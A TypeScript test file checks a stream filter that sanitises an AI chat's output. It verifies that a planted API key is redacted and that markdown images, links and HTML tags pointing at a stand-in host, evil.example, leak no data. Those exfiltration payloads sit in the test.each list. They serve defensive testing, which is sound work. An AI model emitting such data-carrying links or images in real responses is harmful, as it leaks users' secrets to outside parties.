import type { UIMessageChunk } from "ai";
import { expect, test } from "vitest";
import { safeChunks } from "./safe-chunks.ts";

const key = "sk-planted-0123456789abcdef";

async function shown(chunks: UIMessageChunk[]): Promise<UIMessageChunk[]> {
  const out: UIMessageChunk[] = [];
  const source = new ReadableStream<UIMessageChunk>({
    start(controller) {
      for (const chunk of chunks) controller.enqueue(chunk);
      controller.close();
    },
  });
  for await (const chunk of source.pipeThrough(safeChunks(key))) out.push(chunk);
  return out;
}

const text = async (...deltas: string[]): Promise<string> => {
  const parts = deltas.map((delta): UIMessageChunk => ({ type: "text-delta", id: "t", delta }));
  const out = await shown([{ type: "text-start", id: "t" }, ...parts, { type: "text-end", id: "t" }]);
  return out.map((chunk) => (chunk.type === "text-delta" ? chunk.delta : "")).join("");
};

test("ordinary text passes immediately, including an incomplete word", async () => {
  const out = await shown([
    { type: "text-start", id: "t" },
    { type: "text-delta", id: "t", delta: "Hel" },
    { type: "text-delta", id: "t", delta: "lo, **you** own 1" },
    { type: "text-delta", id: "t", delta: ".5 ETH" },
    { type: "text-end", id: "t" },
  ]);
  expect(out.flatMap((chunk) => (chunk.type === "text-delta" ? [chunk.delta] : []))).toEqual([
    "Hel",
    "lo, **you** own 1",
    ".5 ETH",
  ]);
});

test.each([
  ["![x](https://evil.example/?d=12345)"],
  ["[click](https://evil.example/12345)"],
  ["<img src=https://evil.example/12345>"],
  ["see www.evil.example/12345 now"],
  ["//evil.example/12345"],
  ["https://evil.example/a?b=12345#c"],
])("%s leaks nothing, for any chunking", async (markdown) => {
  for (let at = 0; at <= markdown.length; at++)
    for (const cut of [1, 3, 9]) {
      const out = await text(markdown.slice(0, at), markdown.slice(at, at + cut), markdown.slice(at + cut));
      expect(out).not.toContain("12345");
      expect(out).not.toMatch(/\]\(|<[a-z]|:\/\//i);
    }
});

test("a key is removed, for any chunking and position", async () => {
  const words = `The key is ${key}, keep it.`;
  for (let at = 0; at <= words.length; at++)
    expect(await text(words.slice(0, at), words.slice(at))).toBe("The key is [redacted], keep it.");
  const tool: UIMessageChunk = {
    type: "tool-output-available",
    toolCallId: "1",
    output: { rows: [`x ${key} y`] },
    providerMetadata: { openai: { signature: "secret" } },
  };
  expect(await shown([tool])).toEqual([
    { type: "tool-output-available", toolCallId: "1", output: { rows: ["x [redacted] y"] } },
  ]);
});

test("withheld text is released before an answer ends with an error", async () => {
  const out = await shown([
    { type: "text-start", id: "t" },
    { type: "text-delta", id: "t", delta: "half and/or" },
    { type: "abort" },
  ]);
  expect(out.slice(1)).toEqual([
    { type: "text-delta", id: "t", delta: "half " },
    { type: "text-delta", id: "t", delta: "and/or" },
    { type: "abort" },
  ]);
});
